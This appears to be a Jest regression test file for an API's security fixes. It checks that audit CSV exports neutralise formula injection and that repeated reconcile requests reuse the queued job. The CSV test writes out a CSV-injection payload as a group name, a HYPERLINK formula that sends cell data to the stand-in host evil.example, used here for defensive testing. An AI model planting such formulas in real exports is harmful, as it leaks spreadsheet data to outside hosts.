// Attacks on the surfaces merged together (test sign-in, pattern links, jobs, IdP checks, users
// prefix search, audit CSV, last sign-in), from outside: each test is a finding that failed before
// its fix (docs/security.md, "Attacked from outside").
import { JobRunner } from '../../src/jobs/job-runner.service';
import { seedPopulation } from '../support/jobs-seed';
import { newGroup, newTenant } from '../support/factories';
import { startTestApp, TestApp } from '../support/test-app';

const api = (slug: string) => `/api/v1/tenants/${slug}`;

/**
 * The cells a spreadsheet that splits on `sep` sees in one CSV line: like Excel, a quote is only
 * special at the very start of a cell (so a comma-quoted field is no unit for a `;` spreadsheet).
 */
function cellsAsSplitBy(line: string, sep: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    let cell = '';
    if (line[i] === '"') {
      i++;
      while (i < line.length && !(line[i] === '"' && line[i + 1] !== '"')) {
        cell += line[i] === '"' ? '"' : line[i];
        i += line[i] === '"' ? 2 : 1;
      }
      i++;
      while (i < line.length && line[i] !== sep) cell += line[i++];
    } else while (i < line.length && line[i] !== sep) cell += line[i++];
    cells.push(cell);
    i++;
  }
  return cells;
}

describe('attacks on the new surfaces', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp({ JOBS_RECONCILE_THRESHOLD: '5' });
  });
  afterAll(async () => t?.close());

  it('audit CSV: a value cannot start a formula cell in a spreadsheet that splits on ; or tab', async () => {
    const tenant = await newTenant(t);
    const evil = 'Ops;=HYPERLINK("http://evil.example/?"&A1,"x")';
    await newGroup(t, tenant.slug, { name: evil });
    await newGroup(t, tenant.slug, { name: 'Tabbed\t+1+cmd' });
    const csv = await t.op.get(`${api(tenant.slug)}/audit-events.csv`).expect(200);
    const lines = (csv.text as string).split('\r\n').filter((l) => l !== '');
    expect(lines.length).toBeGreaterThan(2);
    expect(csv.text).toContain('HYPERLINK'); // the value is still there, defused
    for (const sep of [',', ';', '\t'])
      for (const line of lines)
        for (const cell of cellsAsSplitBy(line, sep)) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('jobs: repeating a large reconcile answers the queued job instead of piling up new ones', async () => {
    const w = await seedPopulation(t, 12);
    const first = await t.op.post(`${api(w.slug)}/sync/reconcile`).send({}).expect(202);
    const again = await t.op.post(`${api(w.slug)}/sync/reconcile`).send({}).expect(202);
    expect(again.body.job.id).toBe(first.body.job.id);
    expect(again.headers.location).toBe(`${api(w.slug)}/jobs/${first.body.job.id}`);
    const list = await t.op.get(`${api(w.slug)}/jobs`).expect(200);
    expect(list.body.items).toHaveLength(1);
    const queuedEvents = await t.op.get(`${api(w.slug)}/audit-events?action=job.queued`).expect(200);
    expect(queuedEvents.body.items).toHaveLength(1);
    // Once it ran, a new request is new work: a new job.
    expect(await t.app.get(JobRunner).runNext()).toBe(first.body.job.id);
    const later = await t.op.post(`${api(w.slug)}/sync/reconcile`).send({}).expect(202);
    expect(later.body.job.id).not.toBe(first.body.job.id);
  });
});
